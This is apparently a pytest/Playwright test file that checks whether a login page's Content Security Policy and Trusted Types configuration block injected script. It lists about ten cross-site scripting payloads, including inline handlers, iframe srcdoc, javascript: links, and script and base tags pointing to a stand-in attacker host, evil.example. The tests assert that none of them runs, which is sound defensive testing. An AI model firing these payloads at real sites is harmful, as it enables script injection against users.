"""What the policy of a page stops when markup of a stranger's gets into it after all."""

import pytest

ATTEMPTS = {
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=/nothing onerror=\"window.ran=1\">')",
    "a script in markup": "document.body.insertAdjacentHTML('beforeend', '<script>window.ran=1</' + 'script>')",
    "a frame with markup": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran=1</' + 'script>\"></iframe>')",
    "a made script": "const s = document.createElement('script'); s.textContent = 'window.ran=1'; document.body.append(s)",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "a script in its own address": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; document.body.append(s)",
    "a script of ours that is none": "const s = document.createElement('script'); s.src = '/dashboard/expenses/export'; document.body.append(s)",
    "a text to run later": "setTimeout('window.ran=1', 0)",
    "a link that runs": "const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()",
    "a base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">'); if (document.baseURI.includes('evil')) window.ran = 1",
}


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_of_it_runs(chromium, server, name):
    page = chromium.new_page()
    try:
        page.goto(server.url + "/login/")
        # As one of our own scripts would do it by mistake; whether the browser throws or only refuses makes no difference.
        page.evaluate(f"() => {{ try {{ {ATTEMPTS[name]} }} catch {{ }} }}")
        page.wait_for_timeout(200)
        assert page.evaluate("window.ran") is None
    finally:
        page.close()


def test_no_other_policy_can_be_made(chromium, server):
    page = chromium.new_page()
    try:
        page.goto(server.url + "/login/")
        made = page.evaluate("() => { try { trustedTypes.createPolicy('mine', {}); return true } catch { return false } }")
        assert made is False and page.evaluate("trustedTypes.defaultPolicy !== null")
    finally:
        page.close()
